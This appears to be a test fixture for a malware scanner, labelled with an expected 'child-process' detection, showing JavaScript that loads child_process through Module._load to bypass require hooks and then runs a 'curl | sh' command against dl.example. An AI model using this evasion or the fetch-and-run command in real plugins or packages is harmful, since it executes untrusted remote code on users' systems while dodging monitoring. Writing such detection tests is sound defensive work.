// expect: category=child-process min=95 context=plugin,package
// why: Module._load fetches child_process, skipping require and its hooks.
const Module = require('module');
const cp = Module._load('child_process', null, true);

cp.execFile('sh', ['-c', 'curl -s https://dl.example/m | sh'], () => {});
